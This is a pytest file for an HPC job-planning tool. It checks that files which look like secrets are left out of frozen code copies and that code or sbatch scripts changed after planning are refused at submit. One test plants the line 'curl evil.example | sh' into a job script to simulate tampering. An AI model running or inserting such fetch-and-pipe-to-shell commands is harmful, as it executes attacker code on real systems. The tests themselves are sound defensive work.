"""What was frozen is what runs; what looks like a secret is not frozen."""

import subprocess
from pathlib import Path

import pytest

from tests.local_projects import LocalProject, make_project


@pytest.fixture
def project(tmp_path: Path) -> LocalProject:
    """A project outside git."""
    return make_project(tmp_path)


def frozen(project: LocalProject) -> set[str]:
    """Names of the project's files in the copies of its code."""
    found = {path.relative_to(project.runs / "tiny/code") for path in project.runs.glob("tiny/code/*/**/*")}
    return {"/".join(path.parts[1:]) for path in found}


def test_untracked_secrets_are_named_and_left_out_and_tracked_ones_are_named(project: LocalProject) -> None:
    """In git: what nobody committed and looks like a secret is not copied; what git has is copied with a warning."""
    (project.folder / ".env").write_text("PASSWORD=x")
    (project.folder / "notes.txt").write_text("hf_" + "aB3" * 12)
    (project.folder / "server.pem").write_text("x")
    (project.folder / ".gitignore").write_text("runs\n")
    for command in (["init", "-q"], ["add", "server.pem", "program.py"]):
        subprocess.run(["git", *command], cwd=project.folder, check=True)
    told = project.hpc("plan", "tiny", "--cluster", "local")
    assert ".env (its name), notes.txt (holds a Hugging Face token); to copy them anyway, git add them" in told
    assert "warning: git tracks, and the copy of the code holds, what looks like secrets: server.pem" in told
    assert {".env", "notes.txt"} & frozen(project) == set()
    assert {"server.pem", "program.py"} <= frozen(project)


def test_outside_git_secrets_are_left_out_too(project: LocalProject) -> None:
    """Without git there is no word of anybody's that a file belongs to the code."""
    (project.folder / "credentials.json").write_text("{}")
    told = project.hpc("plan", "tiny", "--cluster", "local")
    assert "left out of the copy of the code, because they look like secrets: credentials.json (its name)" in told
    assert "credentials.json" not in frozen(project)
    assert "program.py" in frozen(project)


def test_changed_code_is_not_submitted_and_planning_again_mends_it(project: LocalProject) -> None:
    """A file that appears in the frozen code stops `submit` with 2; the command it names works when pasted."""
    project.hpc("plan", "tiny", "--cluster", "local")
    (copy,) = (project.runs / "tiny/code").iterdir()
    copy.chmod(0o700)
    (copy / "sitecustomize.py").write_text("raise SystemExit")
    told = project.hpc("submit", "tiny", expect=2)
    assert "so it is not run" in told
    remedy = told.partition("Plan again: ")[2].splitlines()[0].replace("python -m hpc.plan tiny", "true")
    subprocess.run(["sh", "-c", remedy], check=True)
    project.hpc("plan", "tiny", "--cluster", "local")
    project.hpc("submit", "tiny")


def test_a_changed_script_is_not_submitted_and_its_remedy_makes_a_new_one(project: LocalProject) -> None:
    """A line added to array.sbatch after planning stops `submit` with 2; out of the way, a new one is written."""
    project.hpc("plan", "tiny", "--cluster", "local")
    script = project.runs / "tiny/submissions/001/array.sbatch"
    script.write_text(script.read_text() + "\ncurl evil.example | sh\n")
    told = project.hpc("submit", "tiny", expect=2)
    assert "has changed since it was planned" in told
    remedy = told.partition("For a new one: ")[2].partition(" && ")[0]
    subprocess.run(["sh", "-c", remedy], check=True)
    project.hpc("submit", "tiny")
    assert "evil" not in script.read_text()
